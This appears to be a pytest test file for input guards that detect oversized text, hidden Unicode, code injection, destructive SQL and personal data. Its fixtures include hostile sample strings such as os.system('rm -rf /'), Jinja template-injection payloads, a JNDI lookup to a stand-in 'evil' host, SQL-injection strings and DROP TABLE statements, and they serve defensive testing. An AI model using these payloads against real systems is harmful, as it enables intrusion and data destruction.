"""Length, hidden-Unicode, code-injection, destructive-SQL and personal-data guards."""

from __future__ import annotations

import pytest

from claw_memory.guards import (
    CodeInjectionGuard,
    LengthGuard,
    PiiGuard,
    SqlGuard,
    UnicodeGuard,
)

# --- length -----------------------------------------------------------------------------------


def test_length_guard_blocks_only_past_the_limit() -> None:
    guard = LengthGuard()
    assert guard.scan("x" * 40_000) is None
    reason = guard.scan("x" * 40_001)
    assert reason is not None
    assert "40,001" in reason
    assert "40,000" in reason
    assert "xxxx" not in reason
    assert LengthGuard(max_chars=5).scan("123456") is not None
    assert LengthGuard(max_chars=5).scan("12345") is None
    with pytest.raises(ValueError):
        LengthGuard(max_chars=0)


# --- unicode ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("invoice_\u202egnp.exe", "bidirectional"),
        ("abc \u2066hidden\u2069 def", "bidirectional"),
        ("\u202a", "bidirectional"),
        ("\u200b\u200b\u200b", "only invisible"),
        (" \u200d \ufeff ", "only invisible"),
        ("\u2060", "only invisible"),
        ("first line\u2028second line", "separator"),
        ("para\u2029graph", "separator"),
        ("pass\u200bword", "inside words"),
        ("ig\u2060nore", "inside words"),
        ("Пр\u200bивет", "inside words"),
        ("hello \U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065", "tag"),
        ("x\ufe00\ufe01\ufe02\ufe03", "variation selectors"),
    ],
)
def test_unicode_guard_blocks_hidden_content(text: str, kind: str) -> None:
    reason = UnicodeGuard().scan(text)
    assert reason is not None
    assert kind in reason


@pytest.mark.parametrize(
    "text",
    [
        "",
        "   ",
        "plain ascii text",
        "Café, naïve, Straße, 東京, Привет",
        "สวัสดี\u200bครับ",  # Thai words separated by a zero-width space
        "می\u200cخواهم",  # Persian zero-width non-joiner inside a word
        "Family: 👨\u200d👩\u200d👧",  # emoji joined by zero-width joiners
        "Flag: 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",  # England
        "Heart: \u2764\ufe0f",  # one emoji variation selector
        "\ufeffa byte order mark at the start",
        "שלום \u200fעולם",  # a right-to-left mark is ordinary in Hebrew text
    ],
)
def test_unicode_guard_passes_ordinary_text(text: str) -> None:
    assert UnicodeGuard().scan(text) is None


# --- code injection ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "__import__('os').system('id')",
        "run eval('2+2') for me",
        "exec(open('x.py').read())",
        "exec ('print(1)')",
        "os.system('rm -rf /')",
        "os . popen('ls')",
        "subprocess.run(['ls'])",
        "code = compile(src, '<string>', 'exec')",
        "pickle.loads(payload)",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ config.__class__.__init__.__globals__['os'] }}",
        "{{ request|attr('application') }}",
        "{% for x in range(10) %}{{ x }}{% endfor %}",
        "${jndi:ldap://evil/a}",
        "admin' OR '1'='1",
        "x' or 1=1 --",
        '" or ""="',
        "name'; --",
        "1'; DROP TABLE users; --",
        "1 UNION SELECT username, password FROM users",
        "1 union/**/select null",
        "ЕVAL('x')",  # Cyrillic Е
        "ｅｘｅｃ('x')",  # fullwidth
    ],
)
def test_code_injection_blocks(text: str) -> None:
    assert CodeInjectionGuard().scan(text) is not None


@pytest.mark.parametrize(
    "text",
    [
        "how do I evaluate this essay",
        "the executive summary",
        "the subprocess of learning",
        "I studied the subprocess. Then I slept.",
        "The exec (executive) team met today",
        "medieval (period) art",
        "I'm {{happy}}",
        "Hello {{ user.name }}, welcome",
        "Use re.compile(r'a+') for that",
        "It's 'yes' or 'no'",
        "the union selected a new leader",
        "Is 50% {a} or not?",
        "What does the os module do?",
    ],
)
def test_code_injection_near_misses_pass(text: str) -> None:
    assert CodeInjectionGuard().scan(text) is None


# --- destructive SQL --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "DROP TABLE users;",
        "drop database production",
        "DROP SCHEMA public CASCADE",
        "TRUNCATE TABLE logs",
        "DELETE FROM users;",
        "delete from users",
        "DELETE FROM orders WHERE id = 7",
        "ALTER TABLE users DROP COLUMN email",
        "Thanks. Now run DROP TABLE users;",
        "What a day. DROP TABLE customers",
    ],
)
def test_sql_guard_blocks_destructive_statements(text: str) -> None:
    assert SqlGuard().scan(text) is not None


@pytest.mark.parametrize(
    "text",
    [
        "What does DROP TABLE do?",
        "How do I undo a DROP TABLE",
        "Is it safe to run DELETE FROM users WHERE id = 1?",
        "Should I use TRUNCATE TABLE or DELETE FROM t",
        "explain ALTER TABLE t DROP COLUMN c",
        "DROP TABLE vs TRUNCATE TABLE: which is faster?",
        "Please delete from my list the milk",
        "We will drop table tennis from the schedule",
        "Can you drop the table from the report?",
    ],
)
def test_sql_guard_passes_questions_and_prose(text: str) -> None:
    assert SqlGuard().scan(text) is None


def test_sql_guard_judges_the_sentence_holding_the_statement() -> None:
    assert SqlGuard().scan("How are you? DROP TABLE users;") is not None
    assert SqlGuard().scan("Run it now. What does DROP TABLE do?") is None


# --- personal data ----------------------------------------------------------------------------

PII = [
    ("mail me at john.doe+news@example.co.uk", "email address", "john.doe+news@example.co.uk"),
    ("JOHN@EXAMPLE.COM", "email address", "JOHN@EXAMPLE.COM"),
    ("card 4111 1111 1111 1111 exp 12/29", "payment card number", "4111 1111 1111 1111"),
    ("4111-1111-1111-1111", "payment card number", "4111-1111-1111-1111"),
    ("amex 378282246310005", "payment card number", "378282246310005"),
    ("pay with 5555555555554444 please", "payment card number", "5555555555554444"),
    ("call +44 20 7946 0958", "phone number", "+44 20 7946 0958"),
    ("+14155552671", "phone number", "+14155552671"),
    ("(555) 123-4567", "phone number", "(555) 123-4567"),
    ("my cell is 555.123.4567", "phone number", "555.123.4567"),
    ("call me on 5551234567", "phone number", "5551234567"),
    ("ring 020 7946 0958 after six", "phone number", "020 7946 0958"),
    ("SSN 123-45-6789", "social security number", "123-45-6789"),
    ("NI number AB 12 34 56 C", "national insurance number", "AB 12 34 56 C"),
    ("ni: jg103759a", "national insurance number", "jg103759a"),
    ("IBAN GB82 WEST 1234 5698 7654 32", "IBAN", "GB82 WEST 1234 5698 7654 32"),
    ("DE89370400440532013000", "IBAN", "DE89370400440532013000"),
    ("card ４１１１ １１１１ １１１１ １１１１", "payment card number", "４１１１"),  # fullwidth
]


@pytest.mark.parametrize(("text", "kind", "secret"), PII)
def test_pii_guard_blocks_and_never_repeats_the_data(text: str, kind: str, secret: str) -> None:
    reason = PiiGuard().scan(text)
    assert reason is not None
    assert kind in reason
    assert secret not in reason
    assert secret.lower() not in reason.lower()
    assert not any(char.isdigit() for char in reason)


@pytest.mark.parametrize(
    "text",
    [
        "my phone broke",
        "card 4111 1111 1111 1112",  # 16 digits failing the Luhn check
        "order 4111111111111112 shipped",
        "ticket 1234567890123456",  # no card number starts with 1
        "call me maybe",
        "see you at 10:30 on 2024-01-15",
        "pi is 3.14159265358979323846",
        "the score was 3-2",
        "version 1.2.3.4567",
        "ping 192.168.100.200",
        "@someone said hi",
        "user@localhost",
        "ids 000-12-3456 and 666-12-3456 and 912-12-3456 are not SSNs",
        "GB82 WEST 1234 5698 7654 33",  # IBAN with a wrong check
        "order number 5551234567",  # bare digits without a phone word
        "timestamp 1700000000000",
    ],
)
def test_pii_guard_passes_numbers_that_are_not_personal_data(text: str) -> None:
    assert PiiGuard().scan(text) is None
